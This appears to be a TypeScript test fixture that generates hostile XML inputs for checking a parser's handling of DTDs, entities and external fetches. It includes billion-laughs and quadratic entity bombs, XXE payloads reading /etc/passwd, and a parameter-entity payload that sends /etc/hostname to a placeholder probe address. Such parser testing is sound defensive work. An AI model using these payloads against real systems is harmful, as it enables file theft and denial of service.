import { HUNDRED_THOUSAND, MILLION, type Rows } from './hostile-body.js';
import type { XmlDocument } from './xml-document.js';

const tenfold = (levels: number): string =>
  Array.from({ length: levels }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join(
    '',
  );

/** Document types and all that they can declare; `probe` is an address that must never be asked. */
export const documentTypes = (doc: XmlDocument, probe: string): Rows => [
  ['an empty DTD', doc.after(`<!DOCTYPE ${doc.name}>`)],
  ['a DTD in lower case', doc.after(`<!doctype ${doc.name}>`)],
  ['a DTD without a name', doc.after('<!DOCTYPE>')],
  ['a DTD without an end', `<!DOCTYPE ${doc.name} [`],
  ['a DTD after the root', `${doc.holding('x')}<!DOCTYPE ${doc.name}>`],
  ['a DTD in the root', doc.around(`<!DOCTYPE ${doc.name}>`)],
  ['two DTDs', doc.after(`<!DOCTYPE a><!DOCTYPE b>`)],
  ['an entity', doc.after(`<!DOCTYPE r [<!ENTITY e "x">]>`, '&e;')],
  ['a billion laughs', doc.after(`<!DOCTYPE r [<!ENTITY e0 "ha">${tenfold(9)}]>`, '&e9;')],
  [
    'a quadratic blow-up',
    doc.after(
      `<!DOCTYPE r [<!ENTITY e "${'a'.repeat(HUNDRED_THOUSAND)}">]>`,
      '&e;'.repeat(HUNDRED_THOUSAND),
    ),
  ],
  [
    'entities that hold each other',
    doc.after('<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;'),
  ],
  [
    'a file as an entity',
    doc.after('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;'),
  ],
  ['an address as an entity', doc.after(`<!DOCTYPE r [<!ENTITY e SYSTEM "${probe}/e">]>`, '&e;')],
  ['a public entity', doc.after(`<!DOCTYPE r [<!ENTITY e PUBLIC "p" "${probe}/p">]>`, '&e;')],
  ['an outer DTD', doc.after(`<!DOCTYPE r SYSTEM "${probe}/outer.dtd">`)],
  ['a public DTD', doc.after(`<!DOCTYPE r PUBLIC "-//X//Y" "${probe}/public.dtd">`)],
  ['a DTD in a file', doc.after('<!DOCTYPE r SYSTEM "file:///etc/passwd">')],
  ['parameter entities', doc.after(`<!DOCTYPE r [<!ENTITY % p SYSTEM "${probe}/param.dtd"> %p;]>`)],
  [
    'a parameter entity that sends a file away',
    doc.after(
      `<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % s "<!ENTITY &#37; t SYSTEM '${probe}/?%f;'>">%s;%t;]>`,
    ),
  ],
  ['an entity in an attribute', doc.after('<!DOCTYPE r [<!ENTITY e "x">]><r a="&e;"/>')],
  ['attribute defaults', doc.after('<!DOCTYPE r [<!ATTLIST r a CDATA "x">]>')],
  ['a notation', doc.after(`<!DOCTYPE r [<!NOTATION n SYSTEM "${probe}/n">]>`)],
  ['10^5 declarations', doc.after(`<!DOCTYPE r [${'<!ENTITY e "x">'.repeat(HUNDRED_THOUSAND)}]>`)],
];

/** References without a document type. */
export const references = (doc: XmlDocument): Rows => [
  ['an entity that nobody declared', doc.holding('&e;')],
  ['a parameter reference', doc.holding('%e;&%e;')],
  ['an HTML entity', doc.holding('&nbsp;')],
  ['an ampersand alone', doc.holding('a & b')],
  ['a reference without an end', doc.holding('&#65')],
  ['a reference to nothing', doc.holding('&#;')],
  ['a reference of no digits', doc.holding('&#x;')],
  ['a reference in capitals', doc.holding('&#X41;')],
  ['a reference below zero', doc.holding('&#-1;')],
  ['a reference beyond Unicode', doc.holding('&#x110000;')],
  ['a reference to a surrogate', doc.holding('&#xD800;&#xDC00;')],
  ['a reference of 10^5 digits', doc.holding(`&#${'9'.repeat(HUNDRED_THOUSAND)};`)],
  ['10^6 bad references', doc.holding('&#0x;'.repeat(MILLION))],
];

/** Includes, style sheets and schemas: what other readers fetch. */
export const fetched = (doc: XmlDocument, probe: string): Rows => [
  [
    'a text included into a value',
    doc.holding(
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>',
    ),
  ],
  [
    'an address included into a value',
    doc.holding(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${probe}/xi"/>`),
  ],
  [
    'an include as the root',
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${probe}/root"/>`,
  ],
  ['a style sheet', doc.after(`<?xml-stylesheet type="text/xsl" href="${probe}/xsl"?>`)],
  ['a processing instruction', doc.around('<?php echo 1 ?>')],
  [
    'another type',
    doc.around('', ' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:type="x:y"'),
  ],
];

/** What is skipped although other readers would fetch it. */
export const skippedFetches = (doc: XmlDocument, probe: string): Rows => [
  [
    'an include between the members',
    doc.around(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${probe}/between"/>`),
  ],
  [
    'a schema location',
    doc.around(
      '',
      ` xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="a ${probe}/xsd"`,
    ),
  ],
];
